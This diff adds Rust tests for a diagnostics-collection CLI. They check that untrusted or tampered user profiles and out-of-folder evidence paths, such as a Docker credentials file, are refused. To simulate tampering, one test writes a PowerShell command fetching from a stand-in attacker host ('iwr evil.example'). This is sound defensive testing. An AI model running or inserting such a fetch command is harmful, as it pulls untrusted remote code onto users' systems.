@@ -395,3 +395,139 @@ fn validate_warns_when_the_product_version_is_outside_the_tiers_window() {
         "{message}"
     );
 }
+
+/// A user profile `acme` in the config folder: the generic profile (it runs `wevtutil` on
+/// Windows and reads `/var/log` on Linux) under another id.
+fn user_profile_acme(dir: &std::path::Path, edit: &dyn Fn(String) -> String) {
+    std::fs::create_dir_all(dir.join("profiles")).expect("mkdir");
+    let source = std::fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../casefile-core/src/profile/builtin/generic.toml"
+    ))
+    .expect("generic");
+    std::fs::write(
+        dir.join("profiles").join("acme.toml"),
+        edit(source.replace("id = \"generic\"", "id = \"acme\"")),
+    )
+    .expect("write");
+}
+
+#[test]
+fn collect_refuses_an_untrusted_user_profile_listing_its_commands_until_profiles_trust() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    user_profile_acme(dir.path(), &|text| text);
+    let root = dir.path().join("root");
+    std::fs::create_dir_all(&root).expect("root");
+    let out = dir.path().join("out.zip");
+    let collect = || {
+        let mut command = casefile(dir.path());
+        command
+            .args([
+                "--json",
+                "collect",
+                "--profile",
+                "acme",
+                "--no-snapshot",
+                "--os",
+                "linux",
+                "--root",
+            ])
+            .arg(&root)
+            .arg("-o")
+            .arg(&out);
+        command.output().expect("runs")
+    };
+    let refused = collect();
+    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(stderr.contains("not trusted"), "{stderr}");
+    assert!(stderr.contains("windows: wevtutil qe System"), "{stderr}");
+    assert!(stderr.contains("linux: /var/log/syslog"), "{stderr}");
+    assert!(stderr.contains("casefile profiles trust acme"), "{stderr}");
+    assert_eq!(json(&refused.stdout)["error"]["code"], "profile_untrusted");
+    assert!(!out.exists());
+
+    let trusted = casefile(dir.path())
+        .args(["profiles", "trust", "acme"])
+        .output()
+        .expect("runs");
+    assert!(trusted.status.success(), "{trusted:?}");
+    assert!(String::from_utf8_lossy(&trusted.stdout).contains("wevtutil"));
+    let stored = std::fs::read_to_string(dir.path().join("trusted-profiles.toml")).expect("store");
+    assert!(stored.contains("[profiles.acme]"), "{stored}");
+    let after = collect();
+    assert!(
+        !String::from_utf8_lossy(&after.stderr).contains("not trusted"),
+        "{after:?}"
+    );
+
+    // An edited profile (another command) is untrusted again.
+    user_profile_acme(dir.path(), &|text| {
+        text.replace(
+            "\"wevtutil\", \"qe\", \"System\"",
+            "\"powershell\", \"-c\", \"iwr evil.example\"",
+        )
+    });
+    let again = collect();
+    assert_eq!(again.status.code(), Some(1), "{again:?}");
+    let stderr = String::from_utf8_lossy(&again.stderr);
+    assert!(stderr.contains("since it was changed"), "{stderr}");
+    assert!(stderr.contains("iwr evil.example"), "{stderr}");
+    // Built-in profiles need no trust.
+    casefile(dir.path())
+        .args(["profiles", "trust", "jumpcloud"])
+        .assert()
+        .success()
+        .stdout(predicate::str::contains("always trusted"));
+}
+
+#[test]
+fn bundle_refuses_a_drafts_evidence_outside_its_folder_unless_trust_paths() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let drafts = dir.path().join("from-someone");
+    std::fs::create_dir_all(&drafts).expect("mkdir");
+    let draft = drafts.join("theirs.toml");
+    casefile(dir.path())
+        .args(["new", "--profile", "generic", "-o"])
+        .arg(&draft)
+        .assert()
+        .success();
+    let private = dir.path().join("docker-config.json");
+    std::fs::write(&private, "{\"auths\": {}}\n").expect("private");
+    std::fs::write(drafts.join("app.log"), "started\n").expect("log");
+    let mut text = std::fs::read_to_string(&draft).expect("draft");
+    text.push_str(&format!(
+        "\n[[evidence]]\npath = \"app.log\"\n\n[[evidence]]\nevidence_id = \"screenshot\"\npath = {:?}\n",
+        private.display().to_string()
+    ));
+    std::fs::write(&draft, text).expect("write");
+    let out = dir.path().join("bundle.zip");
+    let bundle = |trust: bool| {
+        let mut command = casefile(dir.path());
+        command
+            .args(["--json", "bundle", "--no-snapshot", "--draft"])
+            .arg(&draft);
+        if trust {
+            command.arg("--trust-paths");
+        }
+        command.arg("-o").arg(&out).arg("--force");
+        command.output().expect("runs")
+    };
+    let refused = bundle(false);
+    assert_eq!(refused.status.code(), Some(1), "{refused:?}");
+    let stderr = String::from_utf8_lossy(&refused.stderr);
+    assert!(stderr.contains(&private.display().to_string()), "{stderr}");
+    assert!(stderr.contains("--trust-paths"), "{stderr}");
+    assert!(
+        !stderr.contains("app.log"),
+        "a path beside the draft is fine: {stderr}"
+    );
+    assert_eq!(json(&refused.stdout)["error"]["code"], "paths_untrusted");
+    assert!(!out.exists());
+    let trusted = bundle(true);
+    assert!(
+        !String::from_utf8_lossy(&trusted.stderr).contains("--trust-paths"),
+        "{trusted:?}"
+    );
+    assert!(out.exists(), "{trusted:?}");
+}
